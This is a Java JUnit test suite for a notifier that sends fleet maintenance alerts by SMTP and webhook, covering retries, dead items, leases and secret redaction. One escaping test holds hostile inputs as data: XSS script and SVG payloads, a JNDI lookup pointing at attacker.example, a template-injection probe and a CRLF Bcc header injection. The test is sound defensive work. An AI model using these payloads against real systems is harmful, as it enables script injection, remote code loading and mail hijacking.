package scheduledevents.responder.notify;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import jakarta.mail.BodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import scheduledevents.SettableClock;
import scheduledevents.responder.fleet.FleetEvent;
import scheduledevents.sink.webhook.WebhookReceiver;
import scheduledevents.testing.Ports;

/**
 * The outbox dispatcher against a real SMTP server (GreenMail) and a real HTTP endpoint on loopback, with an
 * in-memory outbox that follows the store's rules (due, lease, attempts) and a clock the test moves.
 */
class FleetNotifierTest {
    static final Instant NOW = Instant.parse("2026-12-01T10:00:00Z");
    /** The parts of the settings that must never be seen in a log line or a reason. */
    static final String URL_SECRET_PATH = "/workflows/T0KEN-s3cr3t-abcdef/triggers/manual";
    static final String URL_SECRET_QUERY = "sig=QUERY-s3cr3t-123";
    static final String HEADER_SECRET = "Bearer HEADER-s3cr3t-456";
    static final String SMTP_PASSWORD = "SMTP-pa55w0rd-789";
    static final List<String> SECRETS = List.of("T0KEN-s3cr3t", "QUERY-s3cr3t", "HEADER-s3cr3t", "SMTP-pa55w0rd",
            "workflows");

    SettableClock clock = new SettableClock(NOW);
    InMemoryOutbox outbox = new InMemoryOutbox(clock);
    GreenMail smtp;
    int smtpPort;
    WebhookReceiver webhook;
    PrintStream originalErr;
    ByteArrayOutputStream log = new ByteArrayOutputStream();

    @BeforeEach
    void start() throws Exception {
        smtpPort = Ports.free();
        smtp = new GreenMail(new ServerSetup(smtpPort, "127.0.0.1", ServerSetup.PROTOCOL_SMTP));
        webhook = new WebhookReceiver();
        // slf4j-simple writes to whatever System.err is at the time of the call: keep a copy of the log
        originalErr = System.err;
        PrintStream original = originalErr;
        System.setErr(new PrintStream(new OutputStream() {
            @Override
            public void write(int b) {
                log.write(b);
                original.write(b);
            }

            @Override
            public void write(byte[] b, int off, int len) {
                log.write(b, off, len);
                original.write(b, off, len);
            }
        }, true, StandardCharsets.UTF_8));
    }

    @AfterEach
    void stop() {
        System.setErr(originalErr);
        smtp.stop();
        webhook.close();
        String captured = log.toString(StandardCharsets.UTF_8);
        for (String secret : SECRETS) {
            assertFalse(captured.contains(secret), "a secret in the log: " + captured);
            for (String reason : outbox.allReasons()) {
                assertFalse(reason.contains(secret), "a secret in a reason: " + reason);
            }
        }
    }

    Map<String, String> settings(String channels) {
        Map<String, String> s = new HashMap<>();
        s.put("responder.notify", channels);
        s.put("responder.notify.retry.first-delay", "60000");
        s.put("responder.notify.retry.max-delay", "240000");
        s.put("responder.notify.retry.max-attempts", "4");
        s.put("responder.mail.host", "127.0.0.1");
        s.put("responder.mail.port", String.valueOf(smtpPort));
        s.put("responder.mail.starttls", "false");
        s.put("responder.mail.from", "Fleet Maintenance <responder@example.com>");
        s.put("responder.mail.to", "ops@example.com");
        s.put("responder.mail.timeout", "5000");
        s.put("responder.webhook.url", webhook.url().replace("/workflows/T0KEN-s3cr3t-abcdef/triggers/manual",
                URL_SECRET_PATH) + "?" + URL_SECRET_QUERY);
        s.put("responder.webhook.headers", "Authorization: " + HEADER_SECRET);
        s.put("responder.webhook.timeout", "5000");
        return s;
    }

    FleetNotifier notifier(Map<String, String> settings) {
        NotifySettings read = NotifySettings.read(ResponderTestSettings.reader(settings));
        return FleetNotifier.of(read, outbox, clock);
    }

    static String part(MimeMessage mail, String type) throws Exception {
        MimeMultipart parts = (MimeMultipart) mail.getContent();
        for (int i = 0; i < parts.getCount(); i++) {
            BodyPart p = parts.getBodyPart(i);
            if (p.getContentType().startsWith(type)) {
                return (String) p.getContent();
            }
        }
        throw new AssertionError("no " + type + " part");
    }

    @Test
    void oneMailPerItemNamesEveryAffectedVm() throws Exception {
        smtp.start();
        FleetEvent event = FleetEvents.freeze("A1B2-Freeze", 20, "Scheduled", 1);
        outbox.put(event);
        InMemoryOutbox.Row row = outbox.queue("mail", event, "Scheduled", 1);
        FleetNotifier notifier = notifier(settings("mail"));

        assertEquals(1, notifier.dispatch());
        assertEquals(0, notifier.dispatch(), "a sent item is not sent again");
        assertTrue(smtp.waitForIncomingEmail(5000, 1));
        MimeMessage[] mails = smtp.getReceivedMessages();
        assertEquals(1, mails.length, "one mail for the fleet, not one per VM");
        assertTrue(row.sent);
        assertEquals("[Scheduled] Freeze of 20 VMs not before 2026-12-01 10:15 UTC (rg-web)", mails[0].getSubject());
        assertEquals("responder@example.com",
                ((jakarta.mail.internet.InternetAddress) mails[0].getFrom()[0]).getAddress());
        String plain = part(mails[0], "text/plain");
        String html = part(mails[0], "text/html");
        for (int i = 1; i <= 20; i++) {
            String name = FleetEvents.vmName(i);
            assertTrue(plain.contains("- " + name + "  resource group: rg-web"), name + " in " + plain);
            assertTrue(html.contains(">" + name + "</a>"), name + " in " + html);
        }
        assertTrue(plain.contains("Affected VMs (20):"), plain);
        assertTrue(plain.contains("last status: not reported by its agent"), plain);
        assertTrue(plain.contains("Seen by:          agent, platform"), plain);
        assertTrue(html.contains("href=\"https://portal.azure.com/#resource/subscriptions/"), html);
    }

    @Test
    void aReturnedEventSaysSoAndAOneVmEventNamesIt() throws Exception {
        smtp.start();
        FleetEvent back = FleetEvents.freeze("back-1", 20, "Scheduled", 2);
        FleetEvent single = FleetEvents.freeze("single-1", 1, "Completed", 1);
        outbox.put(back);
        outbox.put(single);
        outbox.queue("mail", back, "Scheduled", 2);
        outbox.queue("mail", single, "Completed", 1);

        assertEquals(2, notifier(settings("mail")).dispatch());
        assertTrue(smtp.waitForIncomingEmail(5000, 2));
        List<String> subjects = new ArrayList<>();
        for (MimeMessage m : smtp.getReceivedMessages()) {
            subjects.add(m.getSubject());
        }
        assertTrue(subjects.contains("[Scheduled again] Freeze of 20 VMs not before 2026-12-01 10:15 UTC (rg-web)"),
                subjects.toString());
        assertTrue(subjects.contains("[Completed] Freeze of web-01 (rg-web)"), subjects.toString());
    }

    @Test
    void hostileTextIsEscapedInTheHtmlMailAndTheJsonWebhookBody() throws Exception {
        smtp.start();
        FleetEvent hostile = FleetEvents.hostile();
        outbox.put(hostile);
        outbox.queue("mail", hostile, "Scheduled", 1);
        outbox.queue("webhook", hostile, "Scheduled", 1);

        assertEquals(2, notifier(settings("mail,webhook")).dispatch());
        assertTrue(smtp.waitForIncomingEmail(5000, 1));
        MimeMessage mail = smtp.getReceivedMessages()[0];
        assertNull(mail.getHeader("Bcc"), "a CR/LF in a VM name adds no header");
        assertEquals(1, mail.getAllRecipients().length);
        assertFalse(mail.getSubject().contains("\n") || mail.getSubject().contains("\r"), mail.getSubject());
        String html = part(mail, "text/html");
        for (String raw : List.of("<script>", "<svg", "<img", "<b>x</b>", "sub\"quote")) {
            assertFalse(html.contains(raw), raw + " unescaped in " + html);
        }
        assertTrue(html.contains("&quot;&gt;&lt;script&gt;alert(document.cookie)"), html);
        assertTrue(html.contains("&lt;script&gt;alert(document.cookie)&lt;/script&gt;"), html);
        assertTrue(html.contains("&lt;svg onload&#61;alert(2)&gt;"), html);
        assertTrue(html.contains("{{7*7}}${jndi:ldap://attacker.example/a}"), "text, not interpreted: " + html);

        assertEquals(1, webhook.requests().size());
        String body = webhook.requests().get(0).body();
        for (String raw : List.of("<script>", "<svg", "<img")) {
            assertFalse(body.contains(raw), raw + " raw in " + body);
        }
        JsonNode json = new ObjectMapper().readTree(body);
        JsonNode event = json.get("event");
        assertEquals(hostile.eventId(), event.get("EventId").asText(), "the text is carried exactly");
        assertEquals(hostile.description(), event.get("Description").asText());
        assertEquals("vm2\r\nBcc: attacker@example.com", event.get("Vms").get(1).get("Name").asText());
        assertEquals("Scheduled", json.get("status").asText());
        assertTrue(json.get("subject").asText().startsWith("[Scheduled] Reboot of 3 VMs"), body);
    }

    @Test
    void teamsAndSlackBodiesOfHostileTextAreValidJson() throws Exception {
        FleetEvent hostile = FleetEvents.hostile();
        for (String format : List.of("teams", "slack", "json")) {
            Map<String, String> s = settings("webhook");
            s.put("responder.webhook.format", format);
            NotifySettings read = NotifySettings.read(ResponderTestSettings.reader(s));
            FleetWebhookChannel channel = new FleetWebhookChannel(read.webhook(), clock);
            String body = channel.render(new scheduledevents.responder.fleet.OutboxItem(1, "webhook",
                    "x", "Scheduled", 1, 0, NOW), hostile);
            JsonNode json = new ObjectMapper().readTree(body);
            assertTrue(json.isObject(), format + ": " + body);
            assertFalse(body.contains("<script>"), format + ": " + body);
        }
    }

    @Test
    void aWebhook500IsRetriedAfterTheBackoffThenSent() throws Exception {
        FleetEvent event = FleetEvents.freeze("e-500", 20, "Started", 1);
        outbox.put(event);
        InMemoryOutbox.Row row = outbox.queue("webhook", event, "Started", 1);
        webhook.answerNext(500);
        FleetNotifier notifier = notifier(settings("webhook"));

        assertEquals(0, notifier.dispatch());
        assertFalse(row.sent || row.dead);
        assertEquals(1, row.attempts);
        assertEquals(NOW.plus(Duration.ofMinutes(1)), row.nextAttempt, "first delay");
        assertTrue(row.reason.contains("answered 500"), row.reason);
        assertTrue(row.reason.contains("http://127.0.0.1:"), row.reason);
        String logged = log.toString(StandardCharsets.UTF_8);
        assertEquals(1, logged.lines().filter(l -> l.contains("failed, attempt 1 of 4")).count(), logged);

        assertEquals(0, notifier.dispatch(), "not due before its next attempt");
        assertEquals(1, webhook.requests().size());
        clock.advance(Duration.ofMinutes(1));
        assertEquals(1, notifier.dispatch());
        assertTrue(row.sent);
        assertEquals(2, webhook.requests().size());
        WebhookReceiver.Request request = webhook.requests().get(1);
        assertEquals(URL_SECRET_PATH + "?" + URL_SECRET_QUERY, request.path(), "posted to the configured URL");
        assertEquals(HEADER_SECRET, request.headers().entrySet().stream()
                .filter(e -> e.getKey().equalsIgnoreCase("Authorization")).findFirst().orElseThrow().getValue().get(0));
        JsonNode event0 = new ObjectMapper().readTree(request.body()).get("event");
        assertEquals(20, event0.get("Vms").size(), "every VM in the JSON body");
    }

    @Test
    void aWebhookThatIsDownIsRetriedWithoutItsUrlInTheLogOrTheReason() throws Exception {
        FleetEvent event = FleetEvents.freeze("e-down", 2, "Scheduled", 1);
        outbox.put(event);
        InMemoryOutbox.Row row = outbox.queue("webhook", event, "Scheduled", 1);
        FleetNotifier notifier = notifier(settings("webhook"));
        webhook.close();

        assertEquals(0, notifier.dispatch());
        assertFalse(row.dead);
        assertTrue(row.reason.matches("POST to http://127\\.0\\.0\\.1:\\d+/\\.\\.\\. failed: \\w+"), row.reason);
        assertEquals(1, notifier.failedCount());
    }

    @Test
    void aWebhook400IsDeadAtOnce() throws Exception {
        FleetEvent event = FleetEvents.freeze("e-400", 3, "Scheduled", 1);
        outbox.put(event);
        InMemoryOutbox.Row row = outbox.queue("webhook", event, "Scheduled", 1);
        webhook.answerNext(400);
        FleetNotifier notifier = notifier(settings("webhook"));

        assertEquals(0, notifier.dispatch());
        assertTrue(row.dead);
        assertTrue(row.reason.contains("answered 400"), row.reason);
        assertTrue(row.reason.contains("responder.webhook.format"), "says what to fix: " + row.reason);
        clock.advance(Duration.ofDays(1));
        assertEquals(0, notifier.dispatch());
        assertEquals(1, webhook.requests().size(), "a dead item is never sent again");
        assertEquals(1, notifier.deadCount());
    }

    @Test
    void smtpDownIsRetriedAndSentWhenItIsBack() throws Exception {
        FleetEvent event = FleetEvents.freeze("e-smtp", 20, "Scheduled", 1);
        outbox.put(event);
        InMemoryOutbox.Row row = outbox.queue("mail", event, "Scheduled", 1);
        FleetNotifier notifier = notifier(settings("mail"));

        assertEquals(0, notifier.dispatch(), "nothing listens on the SMTP port yet");
        assertFalse(row.dead);
        assertEquals(1, row.attempts);
        assertTrue(row.reason.contains("cannot connect to SMTP server smtp://127.0.0.1:" + smtpPort), row.reason);
        assertTrue(row.nextAttempt.isAfter(NOW));

        smtp.start();
        clock.advance(Duration.ofMinutes(1));
        assertEquals(1, notifier.dispatch());
        assertTrue(smtp.waitForIncomingEmail(5000, 1));
        assertTrue(row.sent);
        assertEquals(1, smtp.getReceivedMessages().length);
    }

    @Test
    void attemptsExhaustedMakeItDeadWithBackoffDoublingUpToTheMaximum() throws Exception {
        FleetEvent event = FleetEvents.freeze("e-503", 2, "Scheduled", 1);
        outbox.put(event);
        InMemoryOutbox.Row row = outbox.queue("webhook", event, "Scheduled", 1);
        webhook.answerNext(503, 503, 429, 503, 503);
        FleetNotifier notifier = notifier(settings("webhook"));

        for (int i = 0; i < 10 && !row.dead; i++) {
            assertEquals(0, notifier.dispatch());
            clock.advance(Duration.ofMinutes(10));
        }
        assertTrue(row.dead);
        assertEquals(4, webhook.requests().size(), "max-attempts sends, then no more");
        assertTrue(row.reason.startsWith("gave up after 4 attempts"), row.reason);
        // retries 1, 2 and 4 minutes after each failure (max-delay 4 min)
        List<Duration> delays = new ArrayList<>();
        for (int i = 0; i < row.nextAttempts.size(); i++) {
            delays.add(Duration.between(NOW.plus(Duration.ofMinutes(10L * i)), row.nextAttempts.get(i)));
        }
        assertEquals(List.of(Duration.ofMinutes(1), Duration.ofMinutes(2), Duration.ofMinutes(4)), delays);
    }

    @Test
    void aTlsFailureWithCredentialsIsRetriedAndNeverShowsThePassword() throws Exception {
        smtp.start();
        FleetEvent event = FleetEvents.freeze("e-login", 2, "Scheduled", 1);
        outbox.put(event);
        InMemoryOutbox.Row row = outbox.queue("mail", event, "Scheduled", 1);
        Map<String, String> s = settings("mail");
        s.put("responder.mail.protocol", "smtps");
        s.put("responder.mail.username", "responder");
        s.put("responder.mail.password", SMTP_PASSWORD);
        FleetNotifier notifier = notifier(s);

        assertEquals(0, notifier.dispatch(), "GreenMail speaks plain SMTP: the TLS handshake fails");
        assertEquals(1, row.attempts);
        assertFalse(row.dead, "a TLS failure is retried: " + row.reason);
        assertFalse(NotifySettings.read(ResponderTestSettings.reader(s)).toString().contains(SMTP_PASSWORD));
    }

    @Test
    void anItemOfAVanishedEventOrAnUnconfiguredChannelIsNotLost() throws Exception {
        FleetEvent event = FleetEvents.freeze("e-gone", 2, "Scheduled", 1);
        InMemoryOutbox.Row gone = outbox.queue("webhook", event, "Scheduled", 1);
        outbox.put(FleetEvents.freeze("e-other", 2, "Scheduled", 1));
        InMemoryOutbox.Row noChannel = outbox.queue("mail", FleetEvents.freeze("e-other", 2, "Scheduled", 1),
                "Scheduled", 1);
        FleetNotifier notifier = notifier(settings("webhook"));

        assertEquals(0, notifier.dispatch());
        assertTrue(gone.dead);
        assertEquals("the fleet event is no longer stored", gone.reason);
        assertFalse(noChannel.dead, "kept for a responder configured with mail");
        assertTrue(noChannel.reason.contains("is not configured"), noChannel.reason);
    }

    @Test
    void aSlowBatchLeavesItsRestForTheNextRunInsteadOfSendingPastHalfTheLease() throws Exception {
        FleetEvent event = FleetEvents.freeze("e-slow", 2, "Scheduled", 1);
        outbox.put(event);
        List<InMemoryOutbox.Row> rows = List.of(outbox.queue("webhook", event, "Scheduled", 1),
                outbox.queue("webhook", event, "Started", 1), outbox.queue("webhook", event, "Completed", 1));
        Duration lease = Duration.ofMinutes(10);
        List<String> sentStatuses = new ArrayList<>();
        // a channel whose every send takes 6 minutes of the test clock
        FleetChannel slow = new FleetChannel() {
            @Override
            public String name() {
                return "webhook";
            }

            @Override
            public void send(scheduledevents.responder.fleet.OutboxItem item, FleetEvent e) {
                clock.advance(Duration.ofMinutes(6));
                sentStatuses.add(item.status());
            }
        };
        FleetNotifier notifier = new FleetNotifier(outbox, List.of(slow),
                new RetryPolicy(Duration.ofMinutes(1), Duration.ofMinutes(4), 4), clock, "replica-a", 10, lease);

        assertEquals(1, notifier.dispatch(), "the second item would be sent 6 min into a 10 min lease");
        assertEquals(0, notifier.dispatch(), "the rest is still claimed until its lease lapses");
        clock.advance(Duration.ofMinutes(4));
        assertEquals(1, notifier.dispatch());
        clock.advance(Duration.ofMinutes(10));
        assertEquals(1, notifier.dispatch());
        assertEquals(List.of("Scheduled", "Started", "Completed"), sentStatuses);
        assertTrue(rows.stream().allMatch(r -> r.sent));
    }
}
